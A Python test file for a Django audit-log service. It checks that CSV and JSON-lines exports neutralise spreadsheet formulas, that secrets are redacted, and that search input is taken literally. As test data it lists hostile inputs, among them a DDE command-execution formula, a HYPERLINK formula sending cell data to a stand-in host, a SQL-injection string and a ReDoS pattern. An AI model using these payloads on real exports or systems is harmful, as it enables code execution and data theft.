"""Files of events, whoever had a hand in their words: no formula, no forged line, no secret."""

import csv
import io
import json
from typing import Any

import pytest
from django.db import transaction

from audit import services as audit
from audit import sql
from audit.actions import Action
from audit.filters import Filters
from audit.models import AuditEvent
from tests.integration.audit.canaries import Canaries
from tests.integration.audit.events import OTHER, PLACE, write

FORMULAS = [
    "=1+1", "+1", "-1+1", "@SUM(1)", "\t=1+1", "\r=1+1", "\n=1+1", "＝1+1", "＋1", "－1", "＠SUM(1)",
    '=cmd|\' /C calc\'!A0', '=HYPERLINK("https://x.test/?"&A1)', "'=1", '"=1', " =1", "\u200b=1",
    "\ufeff=1", "\0=1", "\x01=1", "\x02", "a,b\n=1,2", 'a"\n=1', "\\N", "\\.", "%s", "{}", "",
    "a\u2028b", "\U0001f680", "日本，=1",
]  # fmt: skip
SIGNS = ("=", "+", "-", "@", "＝", "＋", "－", "＠", "\t", "\r", "\n")
pytestmark = pytest.mark.django_db


def written(text: str, *, raw: bool) -> None:
    """Write an event that says it wherever words may stand. raw: as no service of ours does."""
    if raw:
        clean = text.replace("\0", "")
        AuditEvent.objects.create(
            workspace_id=PLACE, actor_type="user", actor_id="x", action="x", outcome="ok",
            target_type="product", target_id="7", target_label=clean, reason=clean,
            user_agent=clean, request_id=clean[:64], changes={clean: [clean, clean]},
        )  # fmt: skip
        return
    audit.set_origin(user_agent=text, request_id="request-1")
    with transaction.atomic():
        audit.record(
            Action.PRODUCT_CHANGED,
            actor=audit.Actor("user", "x", text),
            workspace_id=PLACE,
            target=audit.Target("product", "7", text),
            details=audit.Details(reason=text, changes={"name": (text, text)}),
        )
    audit.clear_origin()


@pytest.mark.parametrize("raw", [False, True], ids=["as in service", "as it stands"])
def test_a_table_holds_no_formula_and_no_line_of_anybodys(raw: bool) -> None:
    for text in FORMULAS:
        written(text, raw=raw)

    told = b"".join(sql.table_lines(Filters(workspace_id=PLACE))).decode()

    rows = list(csv.reader(io.StringIO(told, newline=""), strict=True))
    assert len(rows) == len(FORMULAS)
    assert {len(row) for row in rows} == {len(sql.COLUMNS)}
    for row in rows:
        for name, cell in zip(sql.COLUMNS, row, strict=True):
            assert not cell.startswith(SIGNS), (name, cell)
            assert raw or cell.isprintable(), (name, cell)


@pytest.mark.parametrize("raw", [False, True], ids=["as in service", "as it stands"])
def test_lines_of_json_are_lines_of_json(raw: bool) -> None:
    for text in FORMULAS:
        written(text, raw=raw)

    told = b"".join(sql.object_lines(Filters(workspace_id=PLACE))).decode()

    lines = told.split("\n")
    assert lines.pop() == ""
    assert len(lines) == len(FORMULAS)
    for line, text in zip(lines, FORMULAS, strict=True):
        event: dict[str, Any] = json.loads(line)
        expected = text.replace("\0", "") if raw else "".join(filter(str.isprintable, text))
        assert event["target"]["label"] == expected
        assert event["reason"] == expected


def test_secrets_that_came_along_are_in_no_file() -> None:
    secret = Canaries()
    audit.set_origin(user_agent=f"Robot token={secret.new('user agent')}")
    with transaction.atomic():
        audit.record(
            Action.PRODUCT_CHANGED,
            actor=audit.Actor("user", "x", "Lena"),
            workspace_id=PLACE,
            target=audit.Target("product", "7", f"Bearer {secret.new('label')}"),
            details=audit.Details(
                reason=f"she sent https://x.test/join/{secret.new('link')}",
                changes={"api_key": (secret.new("before"), secret.new("after"))},
                data={"authorization": secret.new("data")},
            ),
        )
    audit.clear_origin()

    for lines in (sql.table_lines, sql.object_lines):
        told = b"".join(lines(Filters(workspace_id=PLACE))).decode()
        assert "Robot token=…" in told
        assert secret.heard(told) == set()


@pytest.mark.parametrize(
    "text", ["%", "%%%___", "_", "'", "\\", "a' OR '1'='1", "*:*", "!", "a:*&b", "((((", "x" * 5000,
             "(a+)+$", "\\b", "[", "a\0b", "日 %", "&|!()<->"],
)  # fmt: skip
def test_no_text_looks_for_more_than_its_words(text: str) -> None:
    """Neither a pattern nor a question of the index is anything but words."""
    write(2)
    write(1, workspace_id=OTHER)

    told = b"".join(sql.table_lines(Filters(workspace_id=PLACE, text=f"No {text}"))).decode()

    assert str(OTHER) not in told
    assert len(sql.find(Filters(workspace_id=PLACE, text=text), before=None, limit=50)) == 0
